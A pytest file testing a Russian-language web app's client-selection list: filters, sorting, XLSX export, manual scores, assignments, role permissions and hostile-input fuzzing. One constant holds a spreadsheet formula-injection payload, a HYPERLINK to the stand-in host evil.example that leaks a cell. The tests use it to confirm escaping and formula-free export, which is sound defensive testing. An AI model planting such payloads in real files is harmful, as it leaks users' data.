"""The candidate list for ДС over HTTP on SQLite and PostgreSQL (issue 15): the list, filters, sort, the XLSX,
manual scores and their history, bad input, assigning candidates, and who may see what."""

from __future__ import annotations

import re
import zipfile
from collections.abc import AsyncIterator
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from aiohttp.test_utils import TestClient
from openpyxl import load_workbook
from sqlalchemy import func, select

from service.app import create_app
from service.db.clients import ClientsRepository
from service.db.engine import SessionMaker
from service.db.models import ClientTransition, SelectionScore
from service.db.records import ClientRecord, ContactRecord, SelectionRecord
from service.db.selection import SelectionRepository
from service.db.users import UsersRepository
from service.passwords import hash_password, use_hasher
from service.settings import Settings
from tests.security.test_hostile_requests import HOSTILE_VALUES
from tests.service.web_helpers import DEFAULT_PASSWORD, HTML_ACCEPT, sign_in, use_cheap_hashes

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'
LONG_AGO = date(2010, 1, 15)  # loyalty 3 whatever the day the test runs


def strong(external_id: str, name: str, **changes: Any) -> ClientRecord:
    """A client with 3 points on every computed criterion but the users (counted from its contacts)."""
    return replace(ClientRecord(external_id, name, segment="КС", version="online", client_since=LONG_AGO,
                                online_logins_30d=20, prepaid_months=6, services=["st", "mailing", "lk"],
                                distance_km=90.0, came_from="glavbukh"), **changes)


CLIENTS = [
    strong("C-1", "ООО «Альфа»", territory="БГ", sio="Сидоров П."),
    ClientRecord("C-2", "ООО «Бета»", segment="КС", territory="УТ", sio="Петрова А.", version="other",
                 client_since=LONG_AGO),
    strong("C-3", "ООО «Гамма»", segment="ДС", territory="БГ", sio="Сидоров П."),
    ClientRecord("C-4", "ООО «Дельта»", segment="КС", territory="УТ", sio="Петрова А.", version="internet_update",
                 online_logins_30d=2, debt_rub=Decimal("100")),
    strong("C-5", "ООО «Ель»", territory="УТ", sio="Сидоров П.", version="other", ip_possible=True, came_from=None),
    ClientRecord("C-6", LEAK, segment="КС", territory="БГ", sio=None, version="other", ip_possible=False),
]
USERS = [("smirnova", "supervisor", None, "Смирнова Анна"), ("root", "admin", None, "Админов Админ"),
         ("sidorov", "sio", None, "Сидоров Пётр"), ("ivanova", "expert", "101", "Иванова Мария"),
         ("petrova", "expert", "102", "Петрова Ольга")]


@dataclass
class Office:
    settings: Settings
    sessions: SessionMaker
    aiohttp_client: Any

    async def client(self, login: str | None = None) -> tuple[TestClient, str]:
        client: TestClient = await self.aiohttp_client(create_app(self.settings, with_pbx=False))
        token = await sign_in(client, login) if login else ""
        return client, token


@pytest.fixture
async def office(db_sessions: SessionMaker, migrated_db: str, tmp_path: Path,
                 aiohttp_client: Any) -> AsyncIterator[Office]:
    """Six clients: C-1 and C-5 candidates, C-2 and C-6 without ИП, C-3 on ДС, C-4 weak; users of every role."""
    previous = use_cheap_hashes()
    settings = Settings.model_validate({"database": {"url": migrated_db}, "recordings": {"dir": str(tmp_path)}})
    users = UsersRepository(db_sessions)
    for login, role, extension, name in USERS:
        await users.add(login, name, role, extension, hash_password(DEFAULT_PASSWORD))
    clients = ClientsRepository(db_sessions)
    await clients.upsert_clients(CLIENTS)
    await clients.upsert_contacts([ContactRecord(f"K-{n}", client, f"Контакт {n}", is_user=True)
                                   for n, client in enumerate(["C-1", "C-1", "C-3", "C-5", "C-5", "C-5"])])
    yield Office(settings, db_sessions, aiohttp_client)
    use_hasher(previous)


def listed(html: str) -> list[str]:
    """The clients of the list, in the page's order."""
    table = html.split('data-testid="selection-list"', 1)[1].split("</table>", 1)[0]
    return re.findall(r'<tr data-client="([^"]+)"', table)


async def page(client: TestClient, path: str, **params: str) -> tuple[int, str]:
    response = await client.get(path + ("?" + urlencode(params) if params else ""), headers=HTML_ACCEPT,
                                allow_redirects=False)
    return response.status, await response.text()


async def post(client: TestClient, path: str, data: Any) -> tuple[int, str, str]:
    response = await client.post(path, data=data, headers=HTML_ACCEPT, allow_redirects=False)
    return response.status, await response.text(), response.headers.get("Location", "")


# ---- the list ------------------------------------------------------------------------------------

async def test_a_supervisor_sees_every_client_scored_best_first(office: Office) -> None:
    client, _ = await office.client("smirnova")
    status, html = await page(client, "/selection")
    assert status == 200
    # C-1 and C-3: 21 (users 3 with two users); C-5: 18 + users 2 = 20; C-2: loyalty only; C-4, C-6: 1, 0.
    assert listed(html) == ["C-1", "C-3", "C-5", "C-2", "C-4", "C-6"]
    assert "всего 6, подходят 3, кандидатов 2" in html
    alpha = html.split('data-client="C-1"', 1)[1].split("</tr>", 1)[0]
    assert 'title="3 — 2 пользователя"' in alpha and 'title="0 — СИО ещё не оценил"' in alpha
    assert '<td class="num total" data-testid="total">21</td>' in alpha
    gamma = html.split('data-client="C-3"', 1)[1].split("</tr>", 1)[0]
    assert "нет: уже на ДС" in gamma and 'name="client"' not in gamma  # not a candidate: no tick
    assert 'name="client" value="C-1"' in alpha
    assert "=HYPERLINK(&#34;http://evil.example/?leak=&#34;&amp;A1" in html  # escaped


@pytest.mark.parametrize(("params", "expected"), [
    ({"territory": "УТ"}, ["C-5", "C-2", "C-4"]),
    ({"sio": "Петрова А."}, ["C-2", "C-4"]),
    ({"eligible": "yes"}, ["C-1", "C-5", "C-4"]),
    ({"eligible": "no"}, ["C-3", "C-2", "C-6"]),
    ({"eligible": "already_ds"}, ["C-3"]),
    ({"eligible": "no_ip"}, ["C-6"]),
    ({"eligible": "ip_unknown"}, ["C-2"]),
    ({"candidates": "1"}, ["C-1", "C-5"]),
    ({"candidates": "1", "territory": "БГ"}, ["C-1"]),
    ({"territory": "Марс"}, []),
])
async def test_the_filters(office: Office, params: dict[str, str], expected: list[str]) -> None:
    client, _ = await office.client("smirnova")
    status, html = await page(client, "/selection", **params)
    assert status == 200 and listed(html) == expected
    assert f"Найдено {len(expected)} клиент" in html


@pytest.mark.parametrize(("params", "expected"), [
    ({"sort": "total", "order": "asc"}, ["C-6", "C-4", "C-2", "C-5", "C-1", "C-3"]),
    ({"sort": "users"}, ["C-1", "C-3", "C-5", "C-6", "C-2", "C-4"]),  # 3, 3, 2, then 0s by name («=…» first)
    ({"sort": "from_glavbukh", "order": "asc"}, ["C-6", "C-2", "C-4", "C-5", "C-1", "C-3"]),
    ({"sort": "name"}, [c.external_id for c in sorted(CLIENTS, key=lambda c: c.name.casefold())]),
    ({"sort": "skills"}, ["C-1", "C-3", "C-5", "C-4", "C-6", "C-2"]),
])
async def test_sorting_by_total_and_each_criterion(office: Office, params: dict[str, str],
                                                   expected: list[str]) -> None:
    client, _ = await office.client("smirnova")
    status, html = await page(client, "/selection", **params)
    assert status == 200 and listed(html) == expected


async def test_a_header_link_flips_the_order(office: Office) -> None:
    client, _ = await office.client("smirnova")
    _, html = await page(client, "/selection", sort="skills")
    assert 'href="/selection?sort=skills&amp;order=asc" title="навыки работы с К+" data-sort="skills"' in html
    assert 'href="/selection?sort=users" title="кол-во пользователей" data-sort="users"' in html


@pytest.mark.parametrize(("params", "message"), [
    ({"eligible": "maybe"}, "Неизвестный фильтр «подходит»"),
    ({"sort": "mood"}, "Неизвестная сортировка «mood»"),
    ({"order": "sideways"}, "Непонятный порядок сортировки «sideways»"),
    ({"page": "0"}, "Номер страницы"),
    ({"page": "1" + "0" * 22}, "Номер страницы"),
    ({"page": "٣"}, "Номер страницы"),
    ({"candidates": "perhaps"}, "только кандидаты"),
    ({"territory": "я" * 300}, "длиннее 128 символов"),
])
async def test_a_list_address_no_link_makes_is_a_clear_400(office: Office, params: dict[str, str],
                                                           message: str) -> None:
    client, _ = await office.client("smirnova")
    for path in ("/selection", "/selection.xlsx"):
        status, text = await page(client, path, **params)
        assert status == 400 and message in text


async def test_the_list_pages_beyond_two_hundred(office: Office) -> None:
    await ClientsRepository(office.sessions).upsert_clients(
        [ClientRecord(f"P-{n:03d}", f"ЗАО «Пачка {n:03d}»", segment="КС") for n in range(250)])
    client, _ = await office.client("smirnova")
    _, first = await page(client, "/selection")
    assert len(listed(first)) == 200 and "показаны 1–200, страница 1 из 2" in first
    _, second = await page(client, "/selection", page="2")
    assert len(listed(second)) == 56 and "показаны 201–256, страница 2 из 2" in second
    _, beyond = await page(client, "/selection", page="9")
    assert listed(beyond) == listed(second)


# ---- XLSX ----------------------------------------------------------------------------------------

async def test_the_xlsx_holds_the_filtered_list_and_no_formula(office: Office) -> None:
    client, _ = await office.client("sidorov")
    response = await client.get("/selection.xlsx?territory=БГ", headers=HTML_ACCEPT)
    assert response.status == 200
    assert "filename*=UTF-8''%D0%9E%D1%82%D0%B1%D0%BE%D1%80" in response.headers["Content-Disposition"]
    body = await response.read()
    with zipfile.ZipFile(BytesIO(body)) as archive:  # what Excel reads: no <f> element anywhere
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]
    book = load_workbook(BytesIO(body))  # not data_only: a formula would come back as data_type "f"
    assert book.sheetnames == ["Кандидаты", "Пояснения", "Параметры"]
    rows = list(book["Кандидаты"].iter_rows(values_only=True))
    assert rows[0][:6] == ("Код клиента", "Клиент", "Территория", "СИО", "Подходит", "Почему не подходит")
    assert rows[0][6:14] == ("лояльность", "навыки работы с К+", "кол-во пользователей",
                             "возможность платить предоплату", "степень использования сервисных услуг",
                             "готовы обойтись без СИО", "территориальная удаленность", "перешли с Главбуха")
    assert [row[0] for row in rows[1:]] == ["C-1", "C-3", "C-6"]
    assert rows[1][1:6] == ("ООО «Альфа»", "БГ", "Сидоров П.", "да", None)
    assert rows[1][6:] == (3, 3, 3, 3, 3, 0, 3, 3, 21, None, "да", None, None)
    assert rows[3][1] == "'" + LEAK and rows[3][5] == "нет онлайн-версии, ИП и возможности ИП"
    cells = [cell for row in book["Кандидаты"].iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    notes = list(book["Пояснения"].iter_rows(values_only=True))
    assert notes[1][:2] == ("C-1", "ООО «Альфа»") and re.fullmatch(r"3 — \d\d лет с нами", str(notes[1][2]))
    assert notes[1][3:] == ("3 — 20 входов в систему за 30 дней", "3 — 2 пользователя", "3 — предоплата на 6 месяцев",
                            "3 — 3 услуги: СТ, рассылка, ЛК", "0 — СИО ещё не оценил", "3 — 90 км",
                            "3 — перешли с Главбуха")
    about = {row[0]: row[1] for row in book["Параметры"].iter_rows(values_only=True)}
    assert (about["Территория"], about["Клиентов в списке"], about["Клиентов всего"]) == ("БГ", 3, 6)


# ---- manual scores -------------------------------------------------------------------------------

async def test_a_manual_score_overrides_and_is_kept_in_the_history(office: Office) -> None:
    client, token = await office.client("sidorov")
    status, _, location = await post(client, "/selection/C-4", {"_csrf": token, "criterion": "without_sio",
                                                                "score": "3", "note": "  готовы  "})
    assert (status, location) == (303, "/selection/C-4?saved=1")
    status, html = await page(client, location)
    assert status == 200 and "Оценка сохранена." in html
    assert re.search(r"вручную: Сидоров, \d\d\.\d\d: готовы", html)
    history = html.split('data-testid="score-history"', 1)[1]
    assert re.search(r"<td>готовы обойтись без СИО</td><td>3</td>\s*<td>Сидоров Пётр</td><td>готовы</td>"
                     r"<td>на сайте</td>", history)
    # A recommendation «нет» stops a candidate; «да» is stored as yes; the same entry twice adds nothing.
    for score in ("нет", "да", "да"):
        status, _, location = await post(client, "/selection/C-1", {"_csrf": token, "criterion": "recommendation",
                                                                    "score": score, "note": ""})
        assert status == 303
    assert location == "/selection/C-1?saved=0"
    _, html = await page(client, location)
    assert "Такая же оценка уже записана последней" in html
    assert "рекомендация СИО: да;" in html and html.count("<td>рекомендация СИО</td>") == 2
    async with office.sessions() as session:
        values = (await session.scalars(select(SelectionScore.value).order_by(SelectionScore.id))).all()
        sources = set((await session.scalars(select(SelectionScore.source))).all())
    assert (values, sources) == (["3", "no", "yes"], {"web"})


async def test_a_supervisor_scores_too_and_the_list_shows_it(office: Office) -> None:
    client, token = await office.client("smirnova")
    await post(client, "/selection/C-2", {"_csrf": token, "criterion": "skills", "score": "2", "note": "учили"})
    _, html = await page(client, "/selection", eligible="ip_unknown")
    beta = html.split('data-client="C-2"', 1)[1].split("</tr>", 1)[0]
    assert re.search(r'class="num score score-2 manual" title="вручную: Смирнова, \d\d\.\d\d: учили"', beta)


@pytest.mark.parametrize(("form", "problem"), [
    ({"criterion": "mood", "score": "2"}, "Выберите критерий из списка."),
    ({"criterion": "", "score": "2"}, "Выберите критерий из списка."),
    ({"criterion": "loyalty", "score": "4"}, "Балл по критерию «лояльность» — целое число от 0 до 3, а не «4»."),
    ({"criterion": "loyalty", "score": "да"}, "Балл по критерию «лояльность» — целое число от 0 до 3, а не «да»."),
    ({"criterion": "users", "score": "²"}, "а не «²»"),
    ({"criterion": "recommendation", "score": "2"}, "Рекомендация СИО — «да» или «нет», а не «2»."),
    ({"criterion": "skills", "score": ""}, "Укажите балл от 0 до 3 или рекомендацию «да»/«нет»."),
    ({"criterion": "skills", "score": "1", "note": "x" * 1001}, "Примечание длиннее 1000 символов."),
])
async def test_bad_input_lists_the_problem_and_saves_nothing(office: Office, form: dict[str, str],
                                                             problem: str) -> None:
    client, token = await office.client("sidorov")
    status, html, _ = await post(client, "/selection/C-1", {"_csrf": token, "note": "", **form})
    assert status == 400 and "Оценка не сохранена" in html and problem in html
    if form["criterion"] in ("loyalty", "users", "skills", "recommendation"):  # the form keeps what was typed
        assert f'<option value="{form["criterion"]}" selected>' in html
    async with office.sessions() as session:
        assert await session.scalar(select(func.count()).select_from(SelectionScore)) == 0


async def test_an_unknown_client_is_404_and_a_form_without_its_token_403(office: Office) -> None:
    client, token = await office.client("sidorov")
    assert (await page(client, "/selection/C-404"))[0] == 404
    status, _, _ = await post(client, "/selection/C-404", {"_csrf": token, "criterion": "skills", "score": "1"})
    assert status == 404
    status, _, _ = await post(client, "/selection/C-1", {"criterion": "skills", "score": "1"})
    assert status == 403
    async with office.sessions() as session:
        assert await session.scalar(select(func.count()).select_from(SelectionScore)) == 0


async def test_imported_scores_show_in_the_history_with_their_source(office: Office) -> None:
    await SelectionRepository(office.sessions).add_scores(
        [SelectionRecord("C-5", "without_sio", "2", "по телефону", "sidorov")], "import",
        datetime(2025, 3, 4, 9, 0, tzinfo=UTC))
    client, _ = await office.client("smirnova")
    _, html = await page(client, "/selection/C-5")
    assert "вручную: Сидоров, 04.03.2025: по телефону" in html and "<td>из файла</td>" in html


# ---- assigning candidates ------------------------------------------------------------------------

async def test_a_supervisor_assigns_ticked_candidates_to_an_expert(office: Office) -> None:
    client, token = await office.client("smirnova")
    status, _, location = await post(client, "/selection/assign", [
        ("_csrf", token), ("back", "candidates=1"), ("client", "C-1"), ("client", "C-5"), ("expert", "ivanova")])
    assert status == 303 and location.startswith("/selection?candidates=1&")
    _, html = await page(client, location)
    assert "Назначено Эксперту: Иванова Мария — 2 клиента." in html
    alpha = html.split('data-client="C-1"', 1)[1].split("</tr>", 1)[0]
    assert 'кандидат <span class="muted">Иванова Мария</span>' in alpha


@pytest.mark.parametrize(("form", "message"), [
    ([("client", "C-1"), ("client", "C-3"), ("expert", "ivanova")], "ООО «Гамма»: не подходит (уже на ДС)"),
    # Found trying it: a hand-made request assigned clients that are not candidates.
    ([("client", "C-1"), ("client", "C-4"), ("expert", "ivanova")], "сумма баллов 1 ниже порога"),
    ([("client", "C-1"), ("client", "C-2"), ("expert", "ivanova")], "не подходит (нет онлайн-версии и ИП"),
    ([("client", "C-1"), ("expert", "nobody")], "нет пользователя «nobody»"),
    ([("client", "C-1"), ("expert", "smirnova")], "не Эксперт"),
    ([("client", "C-1"), ("client", "C-404"), ("expert", "ivanova")], "«C-404»: нет такого клиента"),
    ([("client", "C-1")], "Выберите Эксперта"),
    ([("expert", "ivanova")], "Не выбран ни один клиент"),
])
async def test_a_refused_assignment_is_shown_and_nothing_is_assigned(office: Office, form: list[tuple[str, str]],
                                                                     message: str) -> None:
    client, token = await office.client("smirnova")
    status, html, _ = await post(client, "/selection/assign", [("_csrf", token), ("back", ""), *form])
    assert status == 400 and message in html
    if ("client", "C-1") in form:
        assert 'name="client" value="C-1" aria-label="Выбрать ООО «Альфа»" checked' in html  # the ticks kept
    async with office.sessions() as session:
        assert await session.scalar(select(func.count()).select_from(ClientTransition)) == 0


# ---- who may see what ----------------------------------------------------------------------------

@pytest.mark.parametrize("login", ["smirnova", "root", "sidorov"])
async def test_supervisors_admins_and_sio_see_the_list(office: Office, login: str) -> None:
    client, _ = await office.client(login)
    for path in ("/selection", "/selection.xlsx", "/selection/C-1"):
        assert (await client.get(path, headers=HTML_ACCEPT)).status == 200, path
    _, html = await page(client, "/selection")
    assert '<a href="/selection">Отбор на ДС</a>' in html
    assert ('data-testid="selection-assign"' in html) is ('name="expert"' in html) is (login != "sidorov")


async def test_an_expert_gets_403_everywhere_in_the_selection(office: Office) -> None:
    client, token = await office.client("ivanova")
    for path in ("/selection", "/selection.xlsx", "/selection/C-1"):
        assert (await page(client, path))[0] == 403, path
    status, _, _ = await post(client, "/selection/C-1", {"_csrf": token, "criterion": "skills", "score": "1"})
    assert status == 403
    status, _, _ = await post(client, "/selection/assign", {"_csrf": token, "client": "C-1", "expert": "ivanova"})
    assert status == 403
    assert "Отбор на ДС" not in (await page(client, "/desk"))[1]


async def test_a_sio_cannot_assign(office: Office) -> None:
    client, token = await office.client("sidorov")
    status, _, _ = await post(client, "/selection/assign", {"_csrf": token, "client": "C-1", "expert": "ivanova"})
    assert status == 403
    async with office.sessions() as session:
        assert await session.scalar(select(func.count()).select_from(ClientTransition)) == 0


async def test_signed_out_goes_to_the_login(office: Office) -> None:
    client, _ = await office.client()
    status, _ = await page(client, "/selection")
    assert status == 302


# ---- hostile values ------------------------------------------------------------------------------

SELECTION_PARAMETERS = ("territory", "sio", "eligible", "candidates", "sort", "order", "page", "criterion", "score",
                        "note", "back", "client", "expert", "assigned", "kept", "to", "saved")


async def test_no_selection_route_answers_500_to_hostile_values(office: Office) -> None:
    client, token = await office.client("smirnova")
    failures = []
    for value in (*HOSTILE_VALUES, "-" * 3000, "%00", "1" * 12):
        fields = dict.fromkeys(SELECTION_PARAMETERS, value)
        for path in ("/selection", "/selection.xlsx", "/selection/C-1", f"/selection/{quote(value, safe='')}"):
            response = await client.get(path, params=fields, headers=HTML_ACCEPT, allow_redirects=False)
            failures += [f"GET {path[:40]} {value[:20]!r}: {response.status}"] if response.status >= 500 else []
            response.release()
        for path in ("/selection/assign", "/selection/C-1"):
            response = await client.post(path, data={**fields, "_csrf": token}, headers=HTML_ACCEPT,
                                         allow_redirects=False)
            failures += [f"POST {path} {value[:20]!r}: {response.status}"] if response.status >= 500 else []
            response.release()
    assert not failures, "\n".join(failures)
    async with office.sessions() as session:
        assert await session.scalar(select(func.count()).select_from(SelectionScore)) == 0
        assert await session.scalar(select(func.count()).select_from(ClientTransition)) == 0
